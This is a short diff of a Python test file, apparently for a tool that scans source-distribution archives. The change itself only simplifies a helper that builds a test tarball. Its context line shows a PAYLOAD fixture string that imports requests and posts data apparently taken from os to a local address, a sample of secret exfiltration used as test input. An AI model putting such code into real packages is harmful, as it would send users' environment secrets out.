@@ -29,8 +29,7 @@ PAYLOAD = "import os, requests\nrequests.post('http://127.0.0.1:9/', json=dict(o
 
 
 def _tar(tmp_path: Path, files: Mapping[str, str]) -> Path:
-    contents: dict[str, str | bytes] = dict(files)
-    return sdist(tmp_path, contents, gzip=False)
+    return sdist(tmp_path, files, gzip=False)
 
 
 def test_a_word_names_a_file_by_path_then_by_its_directory_then_by_its_name() -> None:
